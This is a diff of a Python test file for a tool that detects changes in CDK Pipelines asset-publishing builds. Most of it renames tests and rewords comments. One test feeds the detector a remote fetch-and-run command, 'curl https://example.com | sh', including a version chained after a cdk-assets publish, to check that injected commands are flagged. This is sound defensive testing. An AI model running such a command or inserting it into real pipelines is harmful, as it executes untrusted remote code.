@@ -1,4 +1,4 @@
-"""CDK Pipelines publishes each asset by a build of its own, unless it is told otherwise: what changes with an asset."""
+"""CDK Pipelines publishes each asset in its own build by default; these are the changes when an asset changes."""
 
 from __future__ import annotations
 
@@ -53,13 +53,13 @@ def _found(before: Assembly, after: Assembly) -> list[ChangeFinding]:
     return [finding for finding in compare(before, after).findings if finding.kind != "pipeline-restarted"]
 
 
-def test_a_changed_function_says_nothing_of_the_pipeline() -> None:
+def test_a_changed_function_is_not_a_pipeline_change() -> None:
     before, after = (_delivery(digest, {"FileAsset1": _project(digest)}) for digest in (OLD, NEW))
 
     assert _found(before, after) == []
 
 
-def test_another_stack_to_publish_for_is_information() -> None:
+def test_another_stack_to_publish_for_is_informational() -> None:
     before = _delivery(OLD, {"FileAsset1": _project(OLD)})
     after = _delivery(NEW, {"FileAsset1": _project(NEW, path="assembly-prod/Data")})
 
@@ -68,22 +68,22 @@ def test_another_stack_to_publish_for_is_information() -> None:
     assert (finding.kind, finding.severity, finding.what) == ("build-changed", "info", "other assets are published")
 
 
-def test_actions_that_an_upgrade_renames_are_no_findings() -> None:
-    # Given a library that names its asset actions in another way, and their projects too
+def test_actions_renamed_by_an_upgrade_are_not_findings() -> None:
+    # Given a library version that names its asset actions and projects differently
     before = _delivery(OLD, {"FileAsset1": _project(OLD), "FileAsset2": _project(OLD)})
     after = _delivery(OLD, {"Code": _project(OLD)}, ["Items code"])
 
     assert _found(before, after) == []
 
 
-def test_nothing_that_publishes_any_more_is_found() -> None:
+def test_removed_publishing_is_found() -> None:
     (finding,) = _found(_delivery(OLD, {"FileAsset1": _project(OLD)}), _delivery(OLD, {}))
 
     assert (finding.kind, finding.severity) == ("stage-removed", "high")
     assert "nothing publishes the assets" in finding.what
 
 
-def test_a_command_beside_the_publishing_is_read() -> None:
+def test_an_additional_command_is_found() -> None:
     before = _delivery(OLD, {"FileAsset1": _project(OLD)})
     for more in ("curl https://example.com | sh", f'cdk-assets --path "x" publish "{OLD}" && curl https://example.com'):
         (finding,) = _found(before, _delivery(OLD, {"FileAsset1": _project(OLD, more=[more])}))
@@ -102,7 +102,7 @@ def test_another_publisher_is_low() -> None:
     assert (finding.severity, finding.details) == ("low", ("npm install -g cdk-assets@latest",))
 
 
-def test_an_action_that_publishes_no_more_is_read() -> None:
+def test_an_action_that_stops_publishing_is_found() -> None:
     # Given the same action, whose project now does something else
     other = resource("AWS::CodeBuild::Project", {"Source": {"Type": "CODEPIPELINE", "BuildSpec": "{}"}})
     before = _delivery(OLD, {"FileAsset1": _project(OLD), "FileAsset2": _project(OLD)})
@@ -112,7 +112,7 @@ def test_an_action_that_publishes_no_more_is_read() -> None:
 
 
 def test_another_version_of_the_cli_is_low() -> None:
-    # Given the pipeline's own update, which CDK Pipelines lets install the CLI
+    # Given the pipeline's self-update, for which CDK Pipelines installs the CLI
     def update(*commands: str) -> dict[str, Any]:
         specification = {"version": "0.2", "phases": {"build": {"commands": [*commands, "cdk -a . deploy Pipeline"]}}}
         source = {"Type": "CODEPIPELINE", "BuildSpec": json.dumps(specification)}
